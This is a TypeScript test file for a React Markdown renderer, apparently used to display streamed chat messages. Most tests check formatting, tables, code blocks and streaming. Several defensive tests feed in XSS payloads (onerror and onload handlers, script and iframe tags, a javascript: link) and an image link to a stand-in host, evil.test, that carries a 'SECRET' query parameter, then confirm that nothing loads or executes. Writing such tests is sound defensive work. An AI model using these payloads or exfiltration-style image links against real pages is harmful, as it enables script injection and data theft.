import fc from 'fast-check';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { renderBare } from '../../../testing/render-bare';
import { Markdown } from './markdown';
import { arbitraryMarkdown } from './testing/arbitrary-markdown';

const shown = (text: string, isStreaming = false) =>
  renderBare(<Markdown text={text} isStreaming={isStreaming} />).replace(/^<div><div>(.*)<\/div><\/div>$/s, '$1');

test.each([
  ['Some *words*, **bold** and `a<b`.', '<p>Some <em>words</em>, <strong>bold</strong> and <code>a&lt;b</code>.</p>'],
  ['### Title', '<h2>Title</h2>'],
  ['- a\n- b\n  1. c', '<ul><li><p>a</p></li><li><p>b</p><ol start="1"><li><p>c</p></li></ol></li></ul>'],
  ['3. c\n4. d', '<ol start="3"><li><p>c</p></li><li><p>d</p></li></ol>'],
  ['- [x] a', '<ul><li><icon square-check><span>Done:</span><div><p>a</p></div></li></ul>'],
  ['> a\n\n---', '<blockquote><p>a</p></blockquote><hr/>'],
  ['~~a~~ ~b~ 20~25', '<p><del>a</del> ~b~ 20~25</p>'],
  ['one\ntwo', '<p>one\ntwo</p>'],
  ['R&amp;D &lt;b&gt;', '<p>R&amp;D &lt;b&gt;</p>'],
  ['&#65;&#x42;&#0;&#xD800;&#9999999;', '<p>AB\ufffd\ufffd\ufffd</p>'],
  ['&constructor; &unknown; & &amp', '<p>&amp;constructor; &amp;unknown; &amp; &amp;amp</p>'],
])('%j is read as Markdown', (text, markup) => {
  expect(shown(text)).toBe(markup);
});

test('a table has a head and aligned cells, in a frame that can be scrolled', () => {
  expect(shown('| a | b |\n|---|--:|\n| 1 | 2 |')).toBe(
    '<div role="group" aria-label="Table" tabindex="0"><table><thead><tr><th scope="col">a</th><th scope="col">b</th></tr></thead>' +
      '<tbody><tr><td>1</td><td>2</td></tr></tbody></table></div>',
  );
});

test.each([
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<script>alert(1)</script>',
  '<link rel=prefetch href=https://evil.test>',
  'text <b style="background:url(https://evil.test)">b</b>',
])('EX-02: %s is text', (text) => {
  const markup = shown(text);
  expect(markup.replace(/<\/?(?:p|a)(?: role="link" tabindex="0")?>/g, '')).not.toContain('<');
});

test('EX-01: a picture is a name and a host, and nothing that loads', () => {
  const markup = shown('![x](http://evil.test/?d=SECRET)');
  expect(markup).toContain('<span>x</span><span>evil.test</span>');
  expect(markup).not.toMatch(/<img|src=|href=/);
});

test('EX-05: no address of a link is in the page', () => {
  expect(shown('[docs](https://evil.test/?d=1)')).toBe('<p><a role="link" tabindex="0">docs</a></p>');
});

test('what leads nowhere outside is text with its address', () => {
  expect(shown('[a](src/a.ts) [b](javascript:alert) [c][r]\n\n[r]: x.md')).toBe(
    '<p>a <span>(src/a.ts)</span> b <span>(javascript:alert)</span> [c][r]</p><p>[r]: x.md</p>',
  );
});

test('code has a name, buttons to wrap and to copy it, and can be scrolled', () => {
  expect(shown('```ts\nconst a = 1;\n\n```')).toBe(
    '<div><div><span>ts</span><span>' +
      '<button type="button" aria-label="Wrap long lines" title="Wrap long lines" aria-pressed="false">' +
      '<icon text-wrap></button><button type="button"><icon copy>Copy</button><span role="status"></span></span></div>' +
      '<pre tabindex="0" role="group" aria-label="Code, ts"><code><span>const a = 1;\n</span></code></pre></div>',
  );
});

test('long code shows its beginning, and says how long it is', () => {
  const markup = shown(`\`\`\`\n${Array.from({ length: 50 }, (_, index) => `line ${index + 1}`).join('\n')}\n\`\`\``);
  expect([markup.includes('line 40<'), markup.includes('line 41'), markup.includes('Show all 50 lines')]).toEqual([
    true,
    false,
    true,
  ]);
});

test('nothing half is shown while it is written', () => {
  expect([shown('a **b', true), shown('a [b](htt', true), shown('a\n-', true), shown('```t', true)]).toEqual([
    '<p>a <strong>b</strong></p>',
    '<p>a b</p>',
    '<p>a</p>',
    '',
  ]);
});

test('nothing throws, at any point of any text', () => {
  fc.assert(
    fc.property(fc.oneof(arbitraryMarkdown, fc.string({ unit: 'binary' })), (text) => {
      for (let end = 0; end < text.length; end += 11) shown(text.slice(0, end), true);
    }),
    { numRuns: 40 },
  );
});

test('every word of a very long message is there', () => {
  const words = Array.from({ length: 30_000 }, (_, index) => `w${index}`);
  const text = words.map((word, index) => (index % 50 === 49 ? `${word}\n\n` : word)).join(' ');
  const markup = renderToStaticMarkup(<Markdown text={text} />);
  expect(markup.replace(/<[^>]*>/g, ' ').match(/w\d+/g)).toEqual(words);
});
